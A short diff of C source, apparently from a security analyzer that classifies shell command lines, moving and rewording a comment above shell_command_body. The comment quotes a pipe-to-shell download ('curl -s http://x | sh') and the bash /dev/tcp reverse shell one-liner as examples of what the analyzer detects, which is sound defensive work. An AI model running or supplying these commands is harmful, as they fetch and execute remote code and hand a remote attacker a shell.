@@ -294,14 +294,15 @@ static void open_call(struct an *a, const struct callsite *c, bool predict, cons
 
 #define DCAM_SHELL_CMD_LEN 1024
 
-/* A shell command line: /bin/sh, then every pipeline stage whose program
- * is a shell or a downloader ("curl -s http://x | sh", quoted or not:
- * "bash -c 'curl …'"), then the connections bash's /dev/tcp and /dev/udp
- * redirections make — each a socket connected and put on a descriptor
- * ("bash -i >& /dev/tcp/HOST/PORT 0>&1": the reverse shell one-liner). */
 static void exec_inline(struct an *a, const struct callsite *c, const char *prog,
 			const char *opt, const char *text);
 
+/* A shell command line: every pipeline stage whose program is a shell or
+ * a downloader ("curl -s http://x | sh", quoted or not: "bash -c 'curl
+ * …'") or an interpreter given a program, then the connections bash's
+ * /dev/tcp and /dev/udp redirections make — each a socket connected and
+ * put on a descriptor ("bash -i >& /dev/tcp/HOST/PORT 0>&1": the reverse
+ * shell one-liner). shell_command() adds the shell that runs it. */
 static void shell_command_body(struct an *a, const struct callsite *c, const char *cmd)
 {
 	char buf[DCAM_ARG_LEN];
